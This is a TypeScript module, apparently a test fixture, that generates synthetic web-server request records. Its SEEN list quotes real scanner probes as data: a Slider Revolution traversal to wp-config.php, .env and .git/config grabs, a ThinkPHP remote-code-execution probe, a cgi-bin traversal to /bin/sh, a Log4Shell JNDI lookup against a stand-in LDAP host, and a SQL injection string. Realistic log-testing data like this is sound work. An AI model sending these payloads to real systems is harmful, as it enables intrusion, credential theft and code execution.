import { seededRandom } from './random.ts';

/** A request as a client sent it and a server answered it, before any log writes it. */
export interface Request {
  readonly at: Date;
  readonly address: string;
  /** The scheme and the host that were asked. */
  readonly scheme: 'http' | 'https';
  readonly host: string;
  readonly method: string;
  /** Path and query as they were sent, as the text that their bytes are in UTF-8. */
  readonly target: string;
  readonly status: number;
  readonly bytes: number;
  readonly referer: string;
  readonly agent: string;
}

const FIRST = Date.UTC(2026, 9, 30);
const AGENTS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1',
  'curl/8.5.0',
  'Mozilla/5.0 zgrab/0.x',
];
const REFERERS = [
  '',
  '',
  'https://www.google.com/',
  'https://www.example.com/a?b=c d',
  'android-app://com.x/',
];
const SEGMENTS = [
  'shop',
  'blog',
  'caf%C3%A9',
  'caf%c3%a9',
  'café',
  'a%20b',
  'a+b',
  '~me',
  '%7Eme',
  "it's",
  'x;y=1',
  'a|b',
  '{id}',
  '%2F',

  '100%25',
  '100%',
  'a,b',
  'a:b',
  '@me',
  '(1)',
  '!',
  '*',
  'index.html',
  'данные',
  '%E2%82%AC',
  '.well-known',
  'a^b',
  '[x]',
];
const QUERIES = [
  '',
  '',
  '',
  '?',
  '?a=1',
  '?q=hello%20world',
  '?q=hello+world',
  "?q='x'",
  '?q={x}',
  '?a[]=1',
  '?u=https://x/y?z',
  '?q=é',
  '?q=%C3%A9',
  '?q=%c3%a9',
  '?a=1&amp;b=2',
  '?q=a|b',
  '?a=%2e%2E',
  '?next=/a/../b',
  '?x=^',
];

/** What scanners, assets, feeds and odd clients ask real servers for. */
const SEEN: readonly (readonly [method: string, target: string, status: number])[] = [
  ['GET', '/', 200],
  ['GET', '/robots.txt', 200],
  ['GET', '/favicon.ico', 404],
  ['POST', '/wp-login.php', 403],
  ['POST', '/xmlrpc.php', 405],
  ['GET', '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php', 403],
  ['GET', '/.env', 404],
  ['GET', '/.git/config', 404],
  ['GET', '//blog//wp-includes/wlwmanifest.xml', 404],
  ['GET', '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array', 404],
  ['GET', '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', 400],
  ['GET', '/?x=$%7Bjndi:ldap://198.51.100.7/a}', 200],
  ['GET', '/search?q="quoted"&page=2', 200],
  ['GET', "/product.php?id=1'%20OR%20'1'='1", 200],
  ['GET', '/shop/?filter[color][]=red&filter[size][]=xl', 200],
  ['HEAD', '/sitemap.xml', 200],
  ['GET', '/sitemap_index.xml.gz', 304],
  ['GET', '/feed/atom/', 301],
  ['OPTIONS', '/api/v1/items', 204],
  ['DELETE', '/api/v1/items/17', 204],
  ['PROPFIND', '/', 405],
  ['GET', '/assets/app.4f3c2a.js', 200],
  ['GET', '/assets/fonts/inter.woff2?v=3.19', 206],
  ['GET', '/produits/caf%C3%A9-moulu', 200],
  ['GET', '/produits/caf%c3%a9-moulu', 200],
  ['GET', '/%E5%95%86%E5%93%81/123', 200],
  ['GET', '/blog/2026/10/a-title?utm_source=newsletter&utm_medium=email', 200],
  ['GET', '/old-page', 410],
  ['GET', '/slow', 499],
  ['GET', '/checkout', 502],
  ['GET', '/gone/../kept/./page', 200],
  ['GET', '/a%2Fb/c%3Fd', 200],
];

/** Lines that look as those of real servers, then generated ones. */
export function logRequests(generated: number, seed: number): Request[] {
  const random = seededRandom(seed);
  const of = <T>(all: readonly T[]): T => all[Math.floor(random() * all.length)] as T;
  const more = (method: string, target: string, status: number): Request => ({
    at: new Date(FIRST + Math.floor(random() * 5 * 86_400) * 1000),
    method,
    target,
    status,
    address: `203.0.113.${Math.floor(random() * 250)}`,
    bytes: Math.floor(random() * 90_000),

    scheme: of(['http', 'https', 'https']),
    host: of(['www.example.com', 'www.example.com', 'shop.example.com']),
    referer: of(REFERERS),
    agent: of(AGENTS),
  });
  const path = (): string => {
    const segments = Array.from({ length: 1 + Math.floor(random() * 3) }, () => of(SEGMENTS));
    return `/${segments.join('/')}${random() < 0.3 ? '/' : ''}`;
  };
  const requests = SEEN.map((one) => more(...one));
  for (let n = 0; n < generated; n++)
    requests.push(
      more(
        of(['GET', 'GET', 'GET', 'POST', 'HEAD']),
        path() + of(QUERIES),
        of([200, 200, 200, 301, 304, 404, 500]),
      ),
    );
  return requests.sort((a, b) => Number(a.at) - Number(b.at));
}
